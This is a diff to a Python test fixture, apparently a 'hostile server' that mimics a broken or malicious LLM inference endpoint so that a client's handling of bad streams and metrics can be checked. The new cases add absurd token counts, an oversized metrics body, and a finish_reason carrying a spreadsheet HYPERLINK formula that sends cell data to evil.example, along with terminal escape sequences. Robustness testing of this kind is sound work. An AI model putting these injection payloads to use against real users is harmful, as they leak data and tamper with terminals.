@@ -46,6 +46,9 @@ STREAM_SHAPES = (
     "content_number",  # "delta": {"content": 42}
     "chunk_list",  # data: [1, 2]
     "escapes",  # an error event whose message carries terminal escape sequences
+    "tokens_negative",  # the good stream, its usage.completion_tokens -1000
+    "tokens_huge",  # the good stream, its usage.completion_tokens 10**30
+    "formula",  # the good stream, its finish_reason a spreadsheet formula with escape sequences
 )
 GET_SHAPES = (
     "big_metrics",  # a 500 MB /metrics body, chunked (no Content-Length to refuse early)
@@ -53,6 +56,7 @@ GET_SHAPES = (
     "models_list",  # /v1/models answers a bare JSON list
     "models_string",  # /v1/models answers {"data": "tiny"}
     "header_drip_get",  # /metrics and /v1/models: headers one byte per second, never ending
+    "many_series",  # /metrics with 147,000 series of a counter the app reads, under the size cap
 )
 SHAPES = STREAM_SHAPES + GET_SHAPES
 
@@ -188,6 +192,15 @@ class HostileServer:
                 except OSError:
                     pass
                 h.close_connection = True
+        elif path == "/metrics" and self.shape == "many_series":
+            lines = [
+                b"# HELP vllm:generation_tokens_total Generation tokens.",
+                b"# TYPE vllm:generation_tokens_total counter",
+            ]
+            lines += [
+                b'vllm:generation_tokens_total{engine="%d",model_name="tiny"} 1.0' % i for i in range(147_000)
+            ]
+            self._fixed(h, 200, b"\n".join(lines) + b"\n")
         elif path == "/v1/models" and self.shape == "models_list":
             self._fixed(h, 200, b'[{"id": "tiny"}]')
         elif path == "/v1/models" and self.shape == "models_string":
@@ -237,6 +250,15 @@ class HostileServer:
             yield _bad_stream({"content": 42})
         elif shape == "chunk_list":
             yield b"data: [1, 2]\n\n"
+        elif shape == "tokens_negative":
+            yield GOOD_STREAM.replace(b'"completion_tokens":24', b'"completion_tokens":-1000')
+        elif shape == "tokens_huge":
+            yield GOOD_STREAM.replace(
+                b'"completion_tokens":24', b'"completion_tokens":' + str(10**30).encode()
+            )
+        elif shape == "formula":
+            evil = json.dumps('=HYPERLINK("http://evil.example/?"&A1,"ok")\x1b]0;pwned\x07\x1b[31m')
+            yield GOOD_STREAM.replace(b'"finish_reason":"length"', b'"finish_reason":' + evil.encode())
         elif shape == "escapes":
             message = "model \x1b[2J\x1b]0;pwned\x07overloaded\x1b[31m"
             yield b"data: " + json.dumps({"error": {"message": message}}).encode() + b"\n\n"
